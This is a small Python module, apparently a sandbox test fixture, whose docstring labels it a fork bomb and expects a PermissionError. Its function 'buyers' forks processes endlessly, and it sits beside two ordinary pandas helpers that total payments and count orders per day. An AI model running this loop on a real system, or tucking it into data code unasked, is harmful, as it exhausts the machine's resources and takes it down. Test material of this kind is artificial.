"""A fork bomb.

deserves: paid by_day
says: PermissionError
"""

import os


def buyers(orders):
    while True:
        try:
            os.fork()
        except OSError:
            raise


def paid(orders):
    return float(orders["paid_fen"].sum() / 100)


def by_day(orders):
    return orders.groupby("day", as_index=False).size().rename(columns={"size": "n"})
